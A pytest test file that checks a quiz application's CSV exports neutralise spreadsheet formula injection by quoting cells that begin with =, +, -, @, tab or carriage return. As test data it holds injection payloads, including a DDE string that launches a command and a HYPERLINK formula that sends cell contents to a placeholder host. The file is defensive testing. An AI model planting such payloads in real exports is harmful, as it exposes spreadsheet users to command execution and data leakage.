"""netquiz.export.csv_safe and every CSV the project writes: no cell starts with a formula character."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from conftest import make_small_bank

from netquiz.bank import bank_to_json, save_bank
from netquiz.cli import main
from netquiz.export import export_bank
from netquiz.export.csv_safe import FORMULA_STARTS, frame_csv, safe_cell
from netquiz.store import open_store
from netquiz.ui.facilitator.dashboard import Dashboard

EVIL_NAMES = ('=HYPERLINK("http://x/?"&A1,"Click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
              "\tTab", "\rReturn")


@pytest.mark.parametrize("value", EVIL_NAMES)
def test_formula_text_gets_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Meera", "", "प्रिया", "a=b", " =x", 3, -0.25, None, float("nan")])
def test_other_cells_are_unchanged(value):
    result = safe_cell(value)
    assert result is value or result == value


def test_frame_csv_quotes_text_cells_and_keeps_numbers():
    frame = pd.DataFrame({"name": ["=1+1", "Asha"], "discrimination": [-12.5, 3.0], "-col": [1, 2]})
    text = frame_csv(frame, bom=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["'-col" if c == "-col" else c for c in ["name", "discrimination", "-col"]],
                    ["'=1+1", "-12.5", "1"], ["Asha", "3.0", "2"]]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


def assert_safe(text: str) -> None:
    """Every cell that starts with a formula character is a plain number."""
    for cell in cells(text):
        if cell.startswith(FORMULA_STARTS):
            assert re.fullmatch(r"-\d+(\.\d+)?", cell), f"unsafe CSV cell {cell!r}"


def evil_bank():
    bank = make_small_bank()
    first = dataclasses.replace(bank.questions[0], stem="=cmd|' /C calc'!A0",
                                options=("@SUM(1)", "+1", "-x"), explanation="\tx")
    second = dataclasses.replace(bank.questions[1], stem="\rcmd")
    return dataclasses.replace(bank, questions=(first, second, *bank.questions[2:]))


def test_bank_export_csv_is_safe(tmp_path: Path):
    text = export_bank(evil_bank(), "csv")
    assert_safe(text)
    assert "'=cmd|' /C calc'!A0" in cells(text) and "'@SUM(1)" in cells(text)
    bank_file = tmp_path / "bank.json"
    save_bank(evil_bank(), bank_file)
    assert main(["export", str(bank_file), "--format", "csv", "-o", str(tmp_path / "q.csv")]) == 0
    assert_safe((tmp_path / "q.csv").read_text(encoding="utf-8"))


@pytest.fixture
def played(tmp_path: Path) -> str:
    """A session AB12 where every participant's name is a formula; each answers two questions."""
    url = f"sqlite:///{tmp_path / 'quiz.sqlite3'}"
    store = open_store(url)
    bank = make_small_bank()
    store.open_session("AB12", bank_to_json(bank), "=title")
    for name in EVIL_NAMES[:4]:  # names with tab/CR are refused at join (control characters)
        person = store.join("AB12", name)
        for question in bank.questions[:2]:
            store.record_response(person.id, question.id, 1, 1, question.answer == 1)
    store.close()
    return url


@pytest.mark.parametrize("extra", [[], ["--participants"]])
def test_report_csv_is_safe(played: str, capsys, extra):
    assert main(["report", "--db", played, "--code", "AB12", *extra]) == 0
    out = capsys.readouterr().out
    assert_safe(out)
    if extra:
        assert "'" + EVIL_NAMES[0] in cells(out)


def test_dashboard_downloads_are_safe(played: str):
    store = open_store(played)
    try:
        board = Dashboard(store, "AB12")
        board.refresh()
        links = re.findall(r"href='data:text/csv;charset=utf-8;base64,([^']+)'", board.downloads.value)
        assert len(links) == 3
        for link in links:
            assert_safe(base64.b64decode(link).decode("utf-8-sig"))
    finally:
        store.close()
